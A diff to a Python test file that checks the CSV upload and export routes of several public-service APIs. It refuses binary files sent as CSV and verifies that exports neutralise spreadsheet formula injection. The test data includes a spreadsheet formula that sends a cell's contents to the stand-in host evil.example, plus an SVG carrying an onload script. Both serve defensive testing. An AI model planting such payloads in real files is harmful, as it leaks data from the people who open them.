@@ -4,6 +4,8 @@ endpoints, upload type and size checks, and CSV exports safe from formula inject
 from __future__ import annotations
 
 import base64
+import csv
+import io
 import re
 import uuid
 from pathlib import Path
@@ -379,7 +381,15 @@ def test_self_declarations_are_rate_limited_per_channel(tmp_path: Path) -> None:
 
 PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
-XLSX = b"PK\x03\x04" + b"\x14\x00\x06\x00" + b"\x00" * 64  # a spreadsheet sent as CSV
+# A spreadsheet sent as CSV (no NUL byte: the NUL guard of every service would refuse it before the route).
+XLSX = b"PK\x03\x04\x14\x06" + bytes(range(0x80, 0x100))
+
+
+def assert_refused_as_not_text(*responses: Any) -> None:
+    """415 from the route's sniffing, or 422 from the NUL guard when a file holding NUL bytes is declared text/*."""
+    for response in responses:
+        assert response.status_code in (415, 422), response.text
+        assert_problem_names(response, response.status_code, "body")
 
 
 def oversize_png(max_bytes: int) -> bytes:
@@ -452,18 +462,20 @@ def test_key_house_list_refuses_binary_files_sent_as_csv(tmp_path: Path) -> None
     with TestClient(suite_service.build_app(settings)) as client:
         setup_places(client, settings)
 
-        def upload(data: bytes) -> Any:
-            headers = {**police(settings), "Content-Type": "text/csv"}
+        def upload(data: bytes, content_type: str = "text/csv") -> Any:
+            headers = {**police(settings), "Content-Type": content_type}
             return client.post("/api/v1/key-house-lists", content=data, headers=headers)
 
         image = upload(PNG)
+        undeclared_image = upload(PNG, "application/octet-stream")
         spreadsheet = upload(XLSX)
         nul_bytes = upload(b"house_code,house_type\x00\n31011401,\x00\x00\n")
         too_big = upload(b"house_code,house_type,maintenance_requirement\n" + b"x" * MAX_LIST_BYTES)
         empty = upload(b"  \n")
 
-    for response in (image, spreadsheet, nul_bytes):
-        assert_problem_names(response, 415, "body")
+    assert_refused_as_not_text(image, nul_bytes)
+    assert_problem_names(spreadsheet, 415, "body")
+    assert_problem_names(undeclared_image, 415, "body")
     assert_problem_names(too_big, 413, "body")
     assert_problem_names(empty, 422, "body")
 
@@ -477,15 +489,17 @@ def test_library_record_import_refuses_binary_files_sent_as_csv(tmp_path: Path) 
         facility_id = _library_parents(client, settings)["facility_id"]
         url = f"/api/v1/facilities/{facility_id}/events/import"
 
-        def upload(data: bytes) -> Any:
-            return client.post(url, content=data, headers={**admin_header(settings), "Content-Type": "text/csv"})
+        def upload(data: bytes, content_type: str = "text/csv") -> Any:
+            return client.post(url, content=data, headers={**admin_header(settings), "Content-Type": content_type})
 
         image, spreadsheet = upload(PNG), upload(XLSX)
+        undeclared_image = upload(PNG, "application/octet-stream")
         utf16 = upload("date,title\n2025-03-01,读书会\n".encode("utf-16"))
         too_big = upload(b"date,title\n" + b"x" * MAX_CSV_BYTES)
 
-    for response in (image, spreadsheet, utf16):
-        assert_problem_names(response, 415, "body")
+    assert_refused_as_not_text(image, utf16)
+    assert_problem_names(spreadsheet, 415, "body")
+    assert_problem_names(undeclared_image, 415, "body")
     assert_problem_names(too_big, 413, "body")
 
 
@@ -519,3 +533,167 @@ def test_provider_document_checks_content_and_size(tmp_path: Path) -> None:
     assert_problem_names(disguised, 415, "body")
     assert_problem_names(too_big, 413, "body")
     assert good.status_code == 201, good.text
+
+
+# --- CSV exports: formula injection ----------------------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+ASSESSOR_KIND = "expert"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_routes(app: Any) -> set[str]:
+    """Paths of the GET routes that answer CSV: declared text/csv, a `.csv` path or a `format` that offers csv."""
+    found = set()
+    for path, operations in app.openapi()["paths"].items():
+        operation = operations.get("get")
+        if operation is None:
+            continue
+        content = operation.get("responses", {}).get("200", {}).get("content", {})
+        format_parameter = query_parameter(operation, "format") or {}
+        offers_csv = "csv" in str(format_parameter.get("schema", {}))
+        if "text/csv" in content or path.endswith(".csv") or offers_csv:
+            found.add(path)
+    return found
+
+
+def _library_csv(client: TestClient, settings: Any, path: str) -> tuple[str, dict[str, Any]]:
+    facility = {"tier": "home_study", "name": FORMULA, "town": "jd-anting"}
+    response = client.post("/api/v1/facilities", json=facility, headers=admin_header(settings))
+    assert response.status_code == 201, response.text
+    return path.replace("{town}", "jd-anting"), {"year": 2025}
+
+
+def _assist_csv(client: TestClient, settings: Any, path: str) -> tuple[str, dict[str, Any]]:
+    from assist_desk.testing import Desk
+
+    Desk(client, settings).institution(name=FORMULA)
+    return path, {"from": "2025-01-01", "to": "2025-12-31"}
+
+
+def _evaluation_csv(client: TestClient, settings: Any, path: str) -> tuple[str, dict[str, Any]]:
+    """No API writes text into a result's CSV (factor names come from the shipped scoring model), so the published
+    result is written straight into the table: the shipped model with one factor renamed, scored, for a real round."""
+    from datetime import UTC, datetime
+
+    from sqlalchemy import create_engine
+    from sqlmodel import Session
+
+    from evaluation.rounds.models import RoundResult, RoundResultDocument
+    from evaluation.scoring.models import ScoringModel
+    from evaluation.scoring.rules import ScoreInputs, score
+
+    headers = admin_header(settings)
+    provider = {
+        "name": "嘉定区阳光助残服务社",
+        "unified_social_credit_code": "91310114MA1GT12348",
+        "contact_name": "王老师",
+        "contact_phone": "13812345678",
+    }
+    provider_id = client.post("/api/v1/providers", json=provider, headers=headers).json()["id"]
+    project = {
+        "provider_id": provider_id,
+        "name": "阳光康复助残项目",
+        "service_year": 2025,
+        "start_date": "2025-01-01",
+        "end_date": "2025-12-31",
+        "target_disability_types": ["physical"],
+        "budget_planned": "1000000.00",
+        "satisfied_planned": 200,
+        "staffing_plan": [{"role": "社工", "count": 4}],
+        "schedule": [{"task": "需求调研", "start": "2025-01-01", "end": "2025-02-28"}],
+        "planned_activities": [
+            {"name": "康复训练", "planned_persons": 300, "planned_frequency": 24, "disability_types": ["physical"]}
+        ],
+        "quality_targets": ["康复能力提升"],
+    }
+    created = client.post("/api/v1/projects", json=project, headers=headers)
+    assert created.status_code == 201, created.text
+    panel = [{"assessor_sub": "assessor-1", "name": "评审一", "kind": ASSESSOR_KIND}]
+    evaluation_round = client.post(
+        f"/api/v1/projects/{created.json()['id']}/rounds", json={"name": "终期评估", "panel": panel}, headers=headers
+    )
+    assert evaluation_round.status_code == 201, evaluation_round.text
+    round_id = evaluation_round.json()["id"]
+    model = client.get("/api/v1/scoring-models/current", headers=headers)
+    shipped = ScoringModel.model_validate(model.json())
+    group = shipped.groups[0]
+    renamed = group.factors[0].model_copy(update={"name": FORMULA})
+    evil_model = shipped.model_copy(
+        update={"groups": [group.model_copy(update={"factors": [renamed, *group.factors[1:]]}), *shipped.groups[1:]]}
+    )
+    result = score(evil_model, ScoreInputs(measures={}, points={}, vetoes=set()))
+    document = RoundResultDocument(
+        round_id=round_id,
+        project_id=created.json()["id"],
+        provider_id=provider_id,
+        version=1,
+        reason=None,
+        aggregation="mean",
+        published_by="federation-1",
+        published_at=datetime.now(UTC),
+        score=result,
+        measure_inputs={},
+        sheets={},
+        disagreements=[],
+        veto_findings_in_minority=[],
+        vetoes_from_records=[],
+        self_evaluation=None,
+    )
+    engine = create_engine(settings.database_url)
+    with Session(engine) as session:
+        session.add(
+            RoundResult(
+                round_id=uuid.UUID(round_id),
+                version=1,
+                total=result.total,
+                scoring_model_id=shipped.id,
+                document=document.model_dump(mode="json"),
+                published_by="federation-1",
+                published_at=datetime.now(UTC),
+            )
+        )
+        session.commit()
+    engine.dispose()
+    return path.replace("{round_id}", round_id).replace("{version}", "1"), {"format": "csv"}
+
+
+CSV_SEEDERS = {
+    ("library-metrics", "/api/v1/reports/district/export.csv"): _library_csv,
+    ("library-metrics", "/api/v1/reports/towns/{town}/export.csv"): _library_csv,
+    ("assist-desk", "/api/v1/reports/district-summary.csv"): _assist_csv,
+    ("evaluation", "/api/v1/rounds/{round_id}/results/{version}/export"): _evaluation_csv,
+}
+
+
+def test_every_csv_export_has_a_seeder(service_app: tuple[SuiteService, Any, Any]) -> None:
+    service, _settings, app = service_app
+    expected = {path for name, path in CSV_SEEDERS if name == service.name}
+    assert csv_routes(app) == expected
+
+
+@pytest.mark.parametrize(("service_name", "path"), sorted(CSV_SEEDERS), ids=lambda value: str(value))
+def test_csv_export_neutralises_formulas(service_name: str, path: str, tmp_path: Path) -> None:
+    suite_service = next(item for item in SERVICES if item.name == service_name)
+    settings = embedded_settings(suite_service.settings_class(), tmp_path).model_copy(
+        update={"blob_dir": str(tmp_path / "blobs")}
+    )
+    with TestClient(suite_service.build_app(settings)) as client:
+        url, params = CSV_SEEDERS[(service_name, path)](client, settings, path)
+        response = client.get(url, params=params, headers=admin_header(settings))
+
+    assert response.status_code == 200, response.text
+    assert response.headers["content-type"].startswith("text/csv")
+    cells = [cell for row in csv.reader(io.StringIO(response.text.lstrip("\ufeff"))) for cell in row]
+    assert "'" + FORMULA in cells
+    assert FORMULA not in cells
+    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
+    assert dangerous == []
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
